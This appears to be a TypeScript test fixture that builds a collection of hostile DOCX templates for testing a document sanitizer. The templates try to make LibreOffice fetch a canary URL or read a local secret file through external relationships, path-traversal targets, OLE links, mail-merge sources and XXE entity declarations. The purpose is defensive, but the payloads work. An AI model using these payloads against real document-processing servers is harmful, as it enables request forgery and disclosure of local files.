import PizZip from 'pizzip';
import { buildDocx, paragraph } from './docx-builder';
import { solidPng } from './png';

const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const IMAGE = `${R}/image`;

export interface HostileDocx {
  name: string;
  file: Buffer;
  /** True when the upload must be refused (422) rather than cleaned. */
  refused?: boolean;
}

/** An inline picture whose blip carries the given attributes (r:embed="…", r:link="…"). */
export const picture = (blipAttributes: string) =>
  `<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="900000" cy="900000"/><wp:docPr id="1" name="Picture 1"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="1" name="Picture 1"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip ${blipAttributes}/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;

/** Adds parts (and content types) to a built DOCX. */
export function withParts(docx: Buffer, parts: Record<string, string | Buffer>, contentTypes: string[] = []): Buffer {
  const zip = new PizZip(docx);
  for (const [name, content] of Object.entries(parts)) zip.file(name, content);
  if (contentTypes.length > 0) {
    const types = zip.file('[Content_Types].xml')!.asText();
    zip.file('[Content_Types].xml', types.replace('</Types>', `${contentTypes.join('')}</Types>`));
  }
  return zip.generate({ type: 'nodebuffer', compression: 'DEFLATE' });
}

const relsPart = (relationships: string) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationships}</Relationships>`;

/** A DOCX with a settings part (and its relationships), for attachedTemplate and mail-merge attacks. */
function withSettings(settingsBody: string, relationships: string): Buffer {
  const docx = buildDocx({ body: paragraph('Dear {name}'), relationships: [`<Relationship Id="rIdSettings" Type="${R}/settings" Target="settings.xml"/>`] });
  return withParts(
    docx,
    {
      'word/settings.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${R}">${settingsBody}</w:settings>`,
      'word/_rels/settings.xml.rels': relsPart(relationships),
    },
    ['<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>'],
  );
}

/**
 * DOCX templates that try to make LibreOffice fetch from `canary` or read `secretFile` (a PNG
 * on local disk), one door each, built the way an attacker would edit a real package.
 */
export function hostileDocxTemplates(canary: string, secretFile: string): HostileDocx[] {
  const body = (blip: string) => `${paragraph('Dear {name}')}${picture(blip)}`;
  const image = (name: string, mode: string, target = `${canary}/${name}.png`, blip = 'r:embed="rIdX"', type = IMAGE): HostileDocx => ({
    name,
    file: buildDocx({ body: body(blip), relationships: [`<Relationship Id="rIdX" Type="${type}" Target="${target}" ${mode}/>`] }),
  });
  const fileUrl = `file://${secretFile}`;
  return [
    image('mode-lower-case', 'TargetMode="external"'),
    image('mode-single-quotes', "TargetMode='External'"),
    image('mode-spaces-around-equals', 'TargetMode = "External"'),
    image('mode-upper-case', 'TargetMode="EXTERNAL"'),
    image('mode-trailing-space', 'TargetMode="External "'),
    image('mode-missing-with-url', ''),
    image('mode-internal-with-url', 'TargetMode="Internal"'),
    image('linked-image', 'TargetMode="External"', undefined, 'r:link="rIdX"'),
    image('hyperlink-rel-used-by-r-link', 'TargetMode="External"', undefined, 'r:link="rIdX"', `${R}/hyperlink`),
    image('hyperlink-rel-used-by-r-embed', 'TargetMode="External"', undefined, 'r:embed="rIdX"', `${R}/hyperlink`),
    image('file-url-linked', 'TargetMode="External"', fileUrl, 'r:link="rIdX"'),
    image('file-url-embedded', 'TargetMode="External"', fileUrl),
    image('file-url-internal-mode', '', fileUrl),
    image('unc-path', 'TargetMode="External"', '\\\\127.0.0.1\\share\\x.png', 'r:link="rIdX"'),
    image('network-path-reference', '', `//${canary.replace(/^http:\/\//, '')}/network-path.png`),
    image('absolute-windows-path', '', 'C:\\Windows\\win.ini'),
    image('climbing-out-of-the-package', '', `../../../../../../../..${secretFile}`),
    image('percent-encoded-climb', '', `%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e${secretFile}`),
    image('leading-space-url', '', ` ${canary}/leading-space.png`),
    {
      name: 'image-in-header',
      file: withParts(buildDocx({ body: paragraph('Dear {name}'), header: picture('r:embed="rIdH"') }), {
        'word/_rels/header1.xml.rels': relsPart(`<Relationship Id="rIdH" Type="${IMAGE}" Target="${canary}/header.png" TargetMode="external"/>`),
      }),
    },
    {
      name: 'vml-imagedata',
      file: buildDocx({
        body: `${paragraph('Dear {name}')}<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" style="width:60pt;height:60pt"><v:imagedata o:href="${canary}/vml-href.png" src="${canary}/vml-src.png"/></v:shape></w:pict></w:r></w:p>`,
      }),
    },
    {
      name: 'ole-link',
      file: buildDocx({
        body: `${paragraph('Dear {name}')}<w:p><w:r><w:object xmlns:o="urn:schemas-microsoft-com:office:office"><o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="_x0000_i1025" DrawAspect="Content" r:id="rIdOle" UpdateMode="Always"/></w:object></w:r></w:p>`,
        relationships: [`<Relationship Id="rIdOle" Type="${R}/oleObject" Target="${canary}/ole.xlsx" TargetMode="External"/>`],
      }),
    },
    {
      name: 'alt-chunk',
      file: withParts(
        buildDocx({
          body: `${paragraph('Dear {name}')}<w:altChunk r:id="rIdAlt"/>`,
          relationships: [`<Relationship Id="rIdAlt" Type="${R}/aFChunk" Target="chunk.html"/>`],
        }),
        { 'word/chunk.html': `<html><body><p>chunk</p><img src="${canary}/alt-chunk.png"><img src="${fileUrl}"></body></html>` },
        ['<Default Extension="html" ContentType="text/html"/>'],
      ),
    },
    {
      name: 'sub-document',
      file: buildDocx({
        body: `${paragraph('Dear {name}')}<w:p><w:subDoc r:id="rIdSub"/></w:p>`,
        relationships: [`<Relationship Id="rIdSub" Type="${R}/subDocument" Target="${canary}/sub.docx" TargetMode="External"/>`],
      }),
    },
    {
      name: 'attached-template',
      file: withSettings(
        '<w:attachedTemplate r:id="rIdT"/>',
        `<Relationship Id="rIdT" Type="${R}/attachedTemplate" Target="${canary}/t.dotx" TargetMode="External"/>`,
      ),
    },
    {
      name: 'mail-merge-source',
      file: withSettings(
        `<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType w:val="native"/><w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=${secretFile}"/><w:query w:val="SELECT * FROM x"/><w:dataSource r:id="rIdM"/></w:mailMerge>`,
        `<Relationship Id="rIdM" Type="${R}/mailMergeSource" Target="${fileUrl}" TargetMode="External"/>`,
      ),
    },
    {
      name: 'doctype-with-external-entity',
      refused: true,
      file: withParts(buildDocx({ body: paragraph('x') }), {
        'word/document.xml': `<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY xxe SYSTEM "${canary}/xxe">]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>`,
      }),
    },
    {
      name: 'doctype-in-relationships',
      refused: true,
      file: withParts(buildDocx({ body: paragraph('x') }), {
        'word/_rels/document.xml.rels': `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY t SYSTEM "${fileUrl}">]>${relsPart('')}`,
      }),
    },
    {
      name: 'doctype-in-utf16-part',
      refused: true,
      file: withParts(buildDocx({ body: paragraph('x') }), {
        'customXml/item1.xml': Buffer.concat([
          Buffer.from([0xff, 0xfe]),
          Buffer.from(`<?xml version="1.0" encoding="UTF-16"?><!doctype x SYSTEM "${canary}/dtd"><x/>`, 'utf16le'),
        ]),
      }),
    },
  ];
}

/** A harmless template with an embedded image and a clickable link: what the checks must keep. */
export function wellBehavedDocx(): Buffer {
  return withParts(
    buildDocx({
      body: `${paragraph('Dear {name}')}${picture('r:embed="rIdImg"')}<w:p><w:hyperlink r:id="rIdLink"><w:r><w:t>terms</w:t></w:r></w:hyperlink></w:p>`,
      relationships: [
        `<Relationship Id="rIdImg" Type="${IMAGE}" Target="media/image1.png"/>`,
        `<Relationship Id="rIdLink" Type="${R}/hyperlink" Target="https://example.com/terms" TargetMode="External"/>`,
      ],
    }),
    { 'word/media/image1.png': solidPng(40, 40, [200, 30, 30]) },
    ['<Default Extension="png" ContentType="image/png"/>'],
  );
}
